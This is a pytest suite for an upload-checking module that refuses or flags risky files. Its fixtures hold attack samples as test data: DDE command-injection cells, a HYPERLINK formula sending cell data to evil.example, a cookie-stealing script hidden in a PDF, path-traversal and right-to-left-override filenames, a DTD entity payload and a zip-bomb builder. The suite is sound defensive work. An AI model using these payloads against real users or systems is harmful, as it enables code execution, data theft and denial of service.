"""The checks on the way in (vault/checks.py, ADR 28): by content and name, bounded, flagged not altered."""

from __future__ import annotations

import io
import socket
import socketserver
import struct
import threading
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from concordat.errors import RuleViolation
from vault import checks

LIMIT = 10 * 1024 * 1024


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def named(name: str, content: bytes) -> SimpleUploadedFile:
    """An upload whose name reaches the check as given (Django's own parser strips only / paths)."""
    made = upload("placeholder.txt", content)
    made._name = name
    return made


def zipped(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def refused(name_or_upload, content: bytes = b"", limit: int = LIMIT) -> str:
    given = name_or_upload if not isinstance(name_or_upload, str) else upload(name_or_upload, content)
    with pytest.raises(RuleViolation) as caught:
        checks.check(given, limit)
    problem = caught.value.problems[0]
    assert problem.field == "files"
    return problem.message


# --- documents as real programs write them (the parts the checks read) ------------------------------

CONTENT_TYPES = b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORKBOOK = (b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            b'<sheet name="Referrals" sheetId="1" r:id="rId1"/><sheet name="Notes" sheetId="2" r:id="rId2"/>'
            b'</sheets></workbook>')
RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="worksheet" Target="worksheets/sheet1.xml"/>'
        b'<Relationship Id="rId2" Type="worksheet" Target="/xl/worksheets/sheet2.xml"/></Relationships>')
SHARED = (b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          b'<si><t>Region</t></si><si><t>=HYPERLINK("http://evil.example/?"&amp;A1,"Click")</t></si>'
          b'<si><r><t>@SUM</t></r><r><t>(A1:A9)</t></r></si><si><t>-12.5</t></si></sst>')
SHEET1 = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
          b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
          b'<row r="2"><c r="A2" t="s"><v>3</v></c><c r="B2"><v>-4</v></c><c r="C2"><f>SUM(B1:B2)</f><v>3</v></c></row>'
          b'</sheetData></worksheet>')
SHEET2 = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
          b'<row r="7"><c r="D7" t="inlineStr"><is><t>+cmd|\' /C calc\'!A0</t></is></c>'
          b'<c r="E7" t="s"><v>2</v></c></row></sheetData></worksheet>')


def xlsx(**overrides: bytes) -> bytes:
    members = {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": WORKBOOK, "xl/_rels/workbook.xml.rels": RELS,
               "xl/worksheets/sheet1.xml": SHEET1, "xl/worksheets/sheet2.xml": SHEET2, "xl/sharedStrings.xml": SHARED}
    members.update(overrides)
    return zipped({name: data for name, data in members.items() if data is not None})


ODS_CONTENT = (b'<?xml version="1.0"?><office:document-content '
               b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               b'<table:table table:name="Cases">'
               b'<table:table-row><table:table-cell><text:p>Region</text:p></table:table-cell>'
               b'<table:table-cell table:number-columns-repeated="3"/>'
               b'<table:table-cell><text:p>=cmd|\' /C calc\'!A0</text:p></table:table-cell></table:table-row>'
               b'<table:table-row table:number-rows-repeated="4"><table:table-cell/></table:table-row>'
               b'<table:table-row><table:table-cell table:formula="of:=SUM([.A1:.A2])"><text:p>3</text:p>'
               b'</table:table-cell><table:table-cell><text:p><text:tab/>tabbed</text:p></table:table-cell>'
               b'<table:table-cell><text:p>-3</text:p></table:table-cell></table:table-row>'
               b'</table:table></office:spreadsheet></office:body></office:document-content>')


def odf(mimetype: bytes, content: bytes = ODS_CONTENT, **extra: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", b"<manifest/>", compress_type=zipfile.ZIP_DEFLATED)
        for name, data in extra.items():
            archive.writestr(name.replace("__", "/"), data)
    return buffer.getvalue()


ODS = odf(b"application/vnd.oasis.opendocument.spreadsheet")
ODT = odf(b"application/vnd.oasis.opendocument.text", b"<office:document-content xmlns:office='o'/>")
DOCX = zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document xmlns:w='w'/>"})
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PARQUET = b"PAR1" + b"\x15\x04" * 10 + (20).to_bytes(4, "little") + b"PAR1"


@pytest.mark.parametrize(("name", "content", "expected"), [
    ("tables.csv", "région,count\nNorth East,12\n".encode(), checks.CSV),
    ("notes.txt", b"Plain notes\r\nwith lines\tand tabs\n", checks.TEXT),
    ("figures.json", b'{"referrals": [1, 2, 3], "region": "North East"}', checks.JSON),
    ("figures.parquet", PARQUET, checks.PARQUET),
    ("report.pdf", PDF, checks.PDF),
    ("chart.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, checks.PNG),
    ("photo.jpeg", b"\xff\xd8\xff\xe0" + b"\x00" * 20, checks.JPEG),
    ("photo.JPG", b"\xff\xd8\xff\xe0" + b"\x00" * 20, checks.JPEG),
    ("tables.xlsx", xlsx(), checks.XLSX),
    ("letter.docx", DOCX, checks.DOCX),
    ("tables.ods", ODS, checks.ODS),
    ("letter.odt", ODT, checks.ODT),
])
def test_each_allowed_type_is_accepted_by_content_and_name(name, content, expected):
    checked = checks.check(upload(name, content), LIMIT)
    assert checked.content_type == expected
    assert checked.name.endswith(checks.ALLOWED_TYPES[expected]) and checked.size == len(content)
    assert checked.scanner == "builtin"


# --- names, emptiness, size -------------------------------------------------------------------------


def test_an_empty_file_is_refused_naming_the_field():
    assert refused("empty.csv", b"") == "empty.csv is empty."


def test_a_file_over_the_limit_is_refused_and_the_limit_said():
    assert "larger than the limit of 1 MB" in refused("big.csv", b"a,b\n" * 300_000, limit=1024 * 1024)
    assert checks.size_limit_words(50 * 1024 * 1024) == "Up to 50 MB each."


@pytest.mark.parametrize(("name", "message"), [
    ("..\\..\\windows\\tables.csv", "path separators"),
    ("reports/tables.csv", "path separators"),
    ("tab\x07les.csv", "control characters"),
    ("tables\n.csv", "control characters"),
    ("invoice\u202ecsv.exe", "control characters"),
    ("", "has no name"),
    ("a" * 250 + ".csv", "longer than 200 characters"),
])
def test_names_with_path_separators_or_control_characters_are_refused(name, message):
    assert message in refused(named(name, b"a,b\n1,2\n"))


@pytest.mark.parametrize(("name", "content", "message"), [
    ("report.exe", PDF, "name must end .pdf"),
    ("tables.docx", xlsx(), "name must end .xlsx"),
    ("tables.xlsx", ODS, "name must end .ods"),
    ("notes.md", b"# Notes\n", "not a type"),  # text goes by its name: .txt, .csv or .json only
])
def test_a_name_that_disagrees_with_the_content_is_refused(name, content, message):
    if message == "not a type":
        assert "must end .txt, .csv or .json" in refused(name, content)
    else:
        assert message in refused(name, content)


# --- PDF, JSON, Parquet, text ---------------------------------------------------------------------


@pytest.mark.parametrize(("content", "message"), [
    (b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n", "holds HTML"),
    (b"%PDF-1.4\n<!DOCTYPE HTML><p>x</p>\n%%EOF", "holds HTML"),
    (b"%PDF-1.4\n" + b"x" * 200_000 + b"<HT" + b"ML>" + b"y" * 10 + b"\n%%EOF", "holds HTML"),
    (b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n", "no %%EOF"),
])
def test_a_pdf_that_is_html_inside_or_unfinished_is_refused(content, message):
    assert message in refused("report.pdf", content)


def test_html_split_across_read_chunks_is_still_found():
    content = b"%PDF-1.4\n" + b"x" * (checks.CHUNK - 12) + b"<script>alert(1)</script>\n%%EOF"
    assert "holds HTML" in refused("report.pdf", content)


@pytest.mark.parametrize(("content", "message"), [
    (b'{"a": 1,', "not valid JSON (line 1)"),
    (b"[" * 100_000 + b"]" * 100_000, "not valid JSON"),
])
def test_json_must_parse(content, message):
    assert message in refused("figures.json", content)


def test_json_over_its_own_bound_is_refused(monkeypatch):
    monkeypatch.setattr(checks, "MAX_JSON_BYTES", 100)
    assert "limit for JSON files" in refused("figures.json", b'{"a": "' + b"x" * 200 + b'"}')


@pytest.mark.parametrize("content", [b"PAR1" + b"\x00" * 40, b"PAR1" + b"\x00" * 4 + (999).to_bytes(4, "little") + b"PAR1"])
def test_parquet_needs_its_magic_at_both_ends_and_a_possible_footer(content):
    assert "not a Parquet file" in refused("figures.parquet", content)


def test_text_that_stops_being_utf8_after_the_sample_is_refused():
    content = b"a,b\n" * 20_000 + "café".encode("latin-1") + b"\n"
    assert "not UTF-8" in refused("tables.csv", content)


# --- zipped documents -----------------------------------------------------------------------------


def lie_about_size(content: bytes, member: str, claimed: int) -> bytes:
    """Rewrite the member's uncompressed size in both its local header and the central directory."""
    data = bytearray(content)
    encoded = member.encode()
    local = data.find(b"PK\x03\x04" + b"")
    while local != -1:
        name_length = struct.unpack("<H", data[local + 26:local + 28])[0]
        if data[local + 30:local + 30 + name_length] == encoded:
            data[local + 22:local + 26] = struct.pack("<L", claimed)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack("<H", data[central + 28:central + 30])[0]
        if data[central + 46:central + 46 + name_length] == encoded:
            data[central + 24:central + 28] = struct.pack("<L", claimed)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def test_an_xlsx_whose_directory_claims_10_bytes_for_50_mb_is_caught_while_inflating():
    bomb = lie_about_size(xlsx(**{"xl/worksheets/sheet1.xml": b"<worksheet>" + b" " * (50 * 1024 * 1024)}),
                          "xl/worksheets/sheet1.xml", 10)
    assert len(bomb) < 200_000
    assert zipfile.ZipFile(io.BytesIO(bomb)).getinfo("xl/worksheets/sheet1.xml").file_size == 10
    tracemalloc.start()
    try:
        message = refused("tables.xlsx", bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "unpacks to more than its directory says" in message
    assert peak < 5 * 1024 * 1024  # stopped at the first piece, never the 50 MB


def test_an_archive_over_its_budget_is_refused_even_when_its_directory_is_honest(monkeypatch):
    monkeypatch.setattr(checks, "MAX_ARCHIVE_UNCOMPRESSED_BYTES", 1024 * 1024)
    big = xlsx(**{"xl/worksheets/sheet2.xml": b"<worksheet>" + b"<!-- x -->" * 200_000 + b"</worksheet>"})
    assert "unpacks to more than is allowed" in refused("tables.xlsx", big)


def test_an_archive_compressed_beyond_the_ratio_is_refused():
    assert "unpacks to more than is allowed" in refused("letter.docx", zipped({
        "[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document>" + b" " * 3_000_000 + b"</w:document>"}))


def test_a_member_whose_crc_is_wrong_is_refused():
    good = DOCX
    data = bytearray(good)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack("<H", data[central + 28:central + 30])[0]
        if data[central + 46:central + 46 + name_length] == b"word/document.xml":
            data[central + 16:central + 20] = struct.pack("<L", zlib.crc32(b"other"))
        central = data.find(b"PK\x01\x02", central + 4)
    assert "is not what its directory says" in refused("letter.docx", bytes(data))


def test_too_many_parts_are_refused(monkeypatch):
    monkeypatch.setattr(checks, "MAX_ARCHIVE_ENTRIES", 5)
    assert "more than 5 parts" in refused("tables.xlsx", xlsx(**{f"xl/media/{i}.xml": b"<a/>" for i in range(5)}))


@pytest.mark.parametrize(("name", "content", "message"), [
    ("tables.ods", odf(b"application/vnd.oasis.opendocument.spreadsheet", **{"Basic__Standard__Module1.xml": b"<m/>"}),
     "contains macros"),
    ("letter.docx", zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<d/>",
                            "word/vbaProject.bin": b"\x00"}), "contains macros"),
    ("tables.xlsx", xlsx(**{"xl/embeddings/tool.exe": b"MZ"}), "contains another archive or a program"),
    ("tables.xlsx", xlsx(**{"../../escape.xml": b"<a/>"}), "leaves the document"),
    ("tables.xlsx", xlsx(**{"xl/sharedStrings.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><sst>&a;</sst>'}),
     "declares a DTD"),
    ("tables.xlsx", xlsx(**{"xl/worksheets/sheet1.xml": b"<worksheet><row>"}), "not well-formed XML"),
    ("tables.ods", odf(b"application/vnd.oasis.opendocument.spreadsheet", content=b"<a>"), "not well-formed XML"),
])
def test_macros_programs_escapes_and_bad_xml_inside_documents_are_refused(name, content, message):
    assert message in refused(name, content)


@pytest.mark.parametrize(("name", "content"), [
    ("archive.zip", zipped({"data.csv": b"a,b\n"})),
    ("tables.xlsx", zipped({"xl/workbook.xml": WORKBOOK})),  # no [Content_Types].xml
    ("tables.ods", zipped({"content.xml": ODS_CONTENT})),  # no mimetype
    ("tables.ods", odf(b"application/x-something-else")),
])
def test_a_zip_without_the_expected_members_is_not_a_document(name, content):
    assert "not a type that may be shared" in refused(name, content)


def test_the_expected_main_part_must_be_there():
    content = zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "styles.xml": b"<s/>"})
    assert "has no content.xml" in refused("letter.odt", content)


# --- formula-like cells: flagged, never altered -----------------------------------------------------


def test_csv_formulas_are_flagged_with_where_they_are_and_the_data_is_not_altered():
    content = (b'Region,Link,Note,Count\n'
               b'North East,"=HYPERLINK(""http://evil.example"",""Click"")",fine,-12\n'
               b"Wales,=cmd|' /C calc'!A0,@SUM(A1),+44 20 7946 0000\n"
               b'London,"\tpadded","\rreturn",3.5\n')
    given = upload("tables.csv", content)
    checked = checks.check(given, LIMIT)
    cells = [(cell.row, cell.column, cell.starts) for cell in checked.flagged]
    assert cells == [(2, "B", '=HYPERLINK("http://e'), (3, "B", "=cmd|' /C calc'!A0"), (3, "C", "@SUM(A1)"),
                     (3, "D", "+44 20 7946 0000"), (4, "B", "\\tpadded"), (4, "C", "\\rreturn")]
    assert checked.flagged_total == 6
    given.seek(0)
    assert given.read() == content  # flagged, not altered
    assert checked.flags_summary()["cells"][0] == {"sheet": "", "row": 2, "column": "B",
                                                   "starts": '=HYPERLINK("http://e'}


def test_a_semicolon_separated_csv_is_read_by_its_own_delimiter():
    checked = checks.check(upload("tables.csv", b"a;b;c\n1;2;=1+2\n4;5;6\n"), LIMIT)
    assert [(cell.row, cell.column) for cell in checked.flagged] == [(2, "C")]


def test_flags_are_counted_in_full_but_only_the_first_are_kept():
    checked = checks.check(upload("tables.csv", b"=1+1\n" * 500), LIMIT)
    assert checked.flagged_total == 500 and len(checked.flagged) == checks.MAX_FLAGS_KEPT


def test_xlsx_shared_inline_and_formula_cells_are_flagged_with_sheet_row_and_column():
    checked = checks.check(upload("tables.xlsx", xlsx()), LIMIT)
    assert [(cell.sheet, f"{cell.column}{cell.row}", cell.starts) for cell in checked.flagged] == [
        ("Referrals", "B1", '=HYPERLINK("http://e'),
        ("Referrals", "C2", "=SUM(B1:B2)"),
        ("Notes", "D7", "+cmd|' /C calc'!A0"),
        ("Notes", "E7", "@SUM(A1:A9)"),
    ]


def test_ods_cells_are_flagged_counting_repeated_rows_and_columns():
    checked = checks.check(upload("tables.ods", ODS), LIMIT)
    assert [(cell.sheet, f"{cell.column}{cell.row}", cell.starts) for cell in checked.flagged] == [
        ("Cases", "E1", "=cmd|' /C calc'!A0"),
        ("Cases", "A6", "=SUM([.A1:.A2])"),
        ("Cases", "B6", "\\ttabbed"),
    ]


@pytest.mark.parametrize(("value", "expected"), [
    ("=HYPERLINK(\"http://evil\")", "'=HYPERLINK(\"http://evil\")"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("-2+3", "'-2+3"),
    ("-12.5", "-12.5"),
    ("+3", "+3"),
    ("North East", "North East"),
    (42, 42),
    (None, None),
])
def test_neutralise_cell_prefixes_formula_like_text_only(value, expected):
    assert checks.neutralise_cell(value) == expected


# --- viruses --------------------------------------------------------------------------------------


def test_eicar_is_refused_by_the_built_in_signature_when_no_clamd_is_configured(settings):
    settings.CONCORDAT_CLAMD_SOCKET = ""
    assert "contains a virus (the EICAR test signature)" in refused("eicar.txt", checks.EICAR)
    assert "EICAR" in refused("eicar.csv", b"a,b\n" + checks.EICAR + b"\n")


def test_eicar_inside_a_zipped_document_is_found_as_it_is_inflated(settings):
    settings.CONCORDAT_CLAMD_SOCKET = ""
    content = zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<d>" + checks.EICAR + b"</d>"})
    assert "EICAR" in refused("letter.docx", content)


class FakeClamd(socketserver.BaseRequestHandler):
    """Speaks clamd's INSTREAM: reads the command and the length-prefixed chunks, answers by what it was sent."""

    received: list[bytes] = []

    def handle(self):
        stream = self.request.makefile("rb")
        command = b""
        while not command.endswith(b"\0"):
            command += stream.read(1)
        assert command == b"zINSTREAM\0"
        body = b""
        while True:
            (length,) = struct.unpack("!L", stream.read(4))
            if not length:
                break
            body += stream.read(length)
        FakeClamd.received.append(body)
        answer = b"stream: Eicar-Signature FOUND\0" if b"INFECTED" in body else b"stream: OK\0"
        self.request.sendall(answer)


@pytest.fixture
def unix_clamd(tmp_path):
    path = str(tmp_path / "clamd.sock")
    server = socketserver.ThreadingUnixStreamServer(path, FakeClamd)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    FakeClamd.received = []
    yield path
    server.shutdown()
    server.server_close()


@pytest.fixture
def tcp_clamd():
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), FakeClamd)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    FakeClamd.received = []
    yield f"tcp://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_clamd_over_a_unix_socket_refuses_what_it_finds_and_passes_what_is_clean(settings, unix_clamd):
    settings.CONCORDAT_CLAMD_SOCKET = unix_clamd
    message = refused("notes.txt", b"INFECTED but the built-in signature would not know it\n")
    assert message == "notes.txt contains a virus (Eicar-Signature) and was not accepted."
    clean = b"x" * (3 * checks.CHUNK + 17)  # several INSTREAM chunks
    assert checks.check(upload("notes.txt", clean), LIMIT).scanner == "clamd"
    assert FakeClamd.received[-1] == clean


def test_clamd_over_tcp(settings, tcp_clamd):
    settings.CONCORDAT_CLAMD_SOCKET = tcp_clamd
    assert "Eicar-Signature" in refused("tables.csv", b"a,b\nINFECTED,1\n")
    assert checks.clamd_instream([b"clean"], tcp_clamd) is None


def test_eicar_is_refused_when_clamd_says_it_is_clean_too(settings, unix_clamd):
    settings.CONCORDAT_CLAMD_SOCKET = unix_clamd
    assert "EICAR" in refused("eicar.txt", checks.EICAR)


def test_a_configured_clamd_that_does_not_answer_refuses_the_upload(settings, tmp_path):
    settings.CONCORDAT_CLAMD_SOCKET = str(tmp_path / "nobody-listens.sock")
    assert "could not be scanned for viruses just now" in refused("notes.txt", b"hello\n")


def test_a_clamd_error_answer_refuses_the_upload(settings, tmp_path):
    path = str(tmp_path / "clamd.sock")

    class Limited(socketserver.BaseRequestHandler):
        def handle(self):
            self.request.recv(65536)
            self.request.sendall(b"INSTREAM size limit exceeded. ERROR\0")

    server = socketserver.ThreadingUnixStreamServer(path, Limited)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with pytest.raises(checks.ScanUnavailable, match="size limit"):
            checks.clamd_instream([b"x" * 10], path, timeout=5)
    finally:
        server.shutdown()
        server.server_close()


def test_the_scanning_note_is_for_administrators_only_and_only_without_clamd(settings):
    class Person:
        is_authenticated = True
        is_superuser = False

        def __init__(self, roles):
            self.roles = roles

        def has_role(self, *roles):
            return any(role in self.roles for role in roles)

    settings.CONCORDAT_CLAMD_SOCKET = ""
    assert "not configured" in checks.scanning_note(Person({"administrator"}))
    assert checks.scanning_note(Person({"msu_assessor"})) == ""
    settings.CONCORDAT_CLAMD_SOCKET = "/run/clamav/clamd.ctl"
    assert checks.scanning_note(Person({"administrator"})) == ""


def test_the_clamd_address_forms(tmp_path):
    with pytest.raises(OSError):
        checks._connect("unix:" + str(tmp_path / "none.sock"), 1)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    try:
        checks._connect(f"127.0.0.1:{listener.getsockname()[1]}", 1).close()
    finally:
        listener.close()


@pytest.mark.parametrize(("name", "content", "flagged"), [
    ("tables.csv", b"a,b\n=1+1,2\n", 1), ("tables.xlsx", xlsx(), 4), ("tables.ods", ODS, 3), ("report.pdf", PDF, 0),
    ("figures.json", b"[1, 2]", 0),
])
def test_uploads_spooled_to_disk_are_checked_the_same_and_left_readable(settings, tmp_path, name, content, flagged):
    from django.core.files.uploadedfile import TemporaryUploadedFile

    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    spooled = TemporaryUploadedFile(name, "application/octet-stream", len(content), None)
    spooled.write(content)
    spooled.seek(0)
    checked = checks.check(spooled, LIMIT)
    assert checked.flagged_total == flagged
    spooled.seek(0)
    assert spooled.read() == content and not spooled.closed
    spooled.close()
